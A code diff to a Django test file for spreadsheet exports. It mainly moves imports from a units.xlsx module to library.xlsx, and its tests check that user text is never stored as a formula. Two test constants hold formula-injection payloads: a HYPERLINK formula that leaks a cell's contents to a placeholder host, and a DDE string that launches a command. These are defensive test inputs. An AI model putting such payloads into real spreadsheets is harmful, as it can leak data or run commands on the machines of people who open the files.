@@ -1,9 +1,9 @@
-"""Every workbook prints and is safe (units/xlsx.py, docs/architecture.md §6 "Excel").
+"""Every workbook prints and is safe (library/xlsx.py, docs/architecture.md §6 "Excel").
 
 Each export reachable over HTTP is downloaded with user text that a spreadsheet would take for a
 formula (= + - @) and opened with openpyxl: no cell is a formula and the text is there exactly as
 typed; every sheet is landscape A4, one page wide, repeats and freezes its header row, has filter
-buttons over all its columns, real dates and right-aligned numbers. Then `units.xlsx` itself:
+buttons over all its columns, real dates and right-aligned numbers. Then `library.xlsx` itself:
 percentages, row heights of wrapped text, titles that are never cut.
 """
 
@@ -19,13 +19,22 @@ from django.urls import reverse
 from django.utils.translation import gettext_lazy
 from openpyxl.utils import get_column_letter
 
+from library.workcalendar import Week
+from library.xlsx import (
+    FORMULA_STARTS,
+    LINE_HEIGHT,
+    MAX_ROW_HEIGHT,
+    Percent,
+    Score,
+    Sheet,
+    build_sheets,
+    build_workbook,
+)
 from reports import periodic
 from reports.models import Indicator
 from tasks.tests.factories import assign
 from tasks.weekly import weekly_summary_run
 from units.tests.support import Q3, file_report
-from units.workcalendar import Week
-from units.xlsx import FORMULA_STARTS, LINE_HEIGHT, MAX_ROW_HEIGHT, Percent, Score, Sheet, build_sheets, build_workbook
 
 HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"Bấm vào đây")'
 DDE = "=cmd|' /C calc'!A0"
@@ -172,7 +181,7 @@ def test_register_export(client, org, dangerous_tasks):
     assert (row[1].value, row[2].value.date()) == ("01/BC-VP", date(2026, 11, 23))
 
 
-# ---- units.xlsx itself --------------------------------------------------------------------------
+# ---- library.xlsx itself --------------------------------------------------------------------------
 
 
 def _sheet(content: bytes, index: int = 0):
